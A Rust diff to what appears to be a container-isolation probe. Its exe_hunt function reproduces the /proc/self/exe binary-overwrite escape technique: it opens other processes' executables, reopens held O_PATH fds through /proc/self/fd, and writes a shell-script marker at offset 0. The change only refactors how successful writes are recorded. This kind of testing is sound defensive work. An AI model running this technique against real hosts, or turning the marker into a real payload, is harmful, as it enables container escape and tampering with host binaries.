@@ -228,7 +228,8 @@ fn cwd() -> Value {
 /// (O_WRONLY, O_RDWR) and O_PATH; the process is then killed and the O_PATH
 /// fd reopened for writing through /proc/self/fd, again and again, as the
 /// real exploit does once the binary no longer runs. Any open for writing
-/// that works writes a marker at offset 0. After DIR/stop, one last reopen
+/// that works writes a marker at offset 0 (`written` lists the writes
+/// that happened). After DIR/stop, one last reopen
 /// of every held fd; prints what it saw and got, and writes it to DIR/report.
 fn exe_hunt(dir: &std::path::Path) -> Value {
     let own_pid = std::process::id() as i32;
@@ -290,7 +291,10 @@ fn exe_hunt(dir: &std::path::Path) -> Value {
                 // SAFETY: a valid C string; a returned fd is used then closed.
                 let fd = unsafe { libc::open(c_exe.as_ptr(), flags | libc::O_CLOEXEC) };
                 if fd >= 0 {
-                    written.push(format!("{exe_path} ({what}): {}", mark(fd)));
+                    match mark(fd) {
+                        Ok(n) => written.push(format!("{exe_path} ({what}): wrote {n} bytes")),
+                        Err(e) => note_errno("write", e),
+                    }
                     // SAFETY: fd is ours.
                     unsafe { libc::close(fd) };
                 } else {
@@ -323,7 +327,10 @@ fn exe_hunt(dir: &std::path::Path) -> Value {
             // SAFETY: a valid C string.
             let w = unsafe { libc::open(c_fd.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
             if w >= 0 {
-                written.push(format!("/proc/self/fd/{fd} (reopen): {}", mark(w)));
+                match mark(w) {
+                    Ok(n) => written.push(format!("/proc/self/fd/{fd} (reopen): wrote {n} bytes")),
+                    Err(e) => note_errno("reopen-write", e),
+                }
                 // SAFETY: w is ours.
                 unsafe { libc::close(w) };
             } else if rounds % 1024 == 0 {
@@ -344,7 +351,12 @@ fn exe_hunt(dir: &std::path::Path) -> Value {
         // SAFETY: a valid C string.
         let w = unsafe { libc::open(c_fd.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
         if w >= 0 {
-            written.push(format!("/proc/self/fd/{fd} (final reopen): {}", mark(w)));
+            match mark(w) {
+                Ok(n) => written.push(format!(
+                    "/proc/self/fd/{fd} (final reopen): wrote {n} bytes"
+                )),
+                Err(e) => note_errno("final-write", e),
+            }
             // SAFETY: w is ours.
             unsafe { libc::close(w) };
         } else {
@@ -364,15 +376,17 @@ fn exe_hunt(dir: &std::path::Path) -> Value {
     report
 }
 
-/// Write a marker at offset 0 of an fd opened for writing; says what happened.
-fn mark(fd: libc::c_int) -> String {
+/// Write a marker at offset 0 of an fd opened for writing.
+/// A sealed copy opens for writing but refuses the write: only a write that
+/// happened counts. Returns the bytes written or the errno.
+fn mark(fd: libc::c_int) -> Result<isize, i32> {
     let marker = b"#!/bin/sh\necho overwritten by a container\n";
     // SAFETY: the buffer is valid for its length.
     let n = unsafe { libc::pwrite(fd, marker.as_ptr().cast(), marker.len(), 0) };
     if n < 0 {
-        format!("opened, write failed: {}", std::io::Error::last_os_error())
+        Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
     } else {
-        format!("opened and wrote {n} bytes")
+        Ok(n)
     }
 }
 
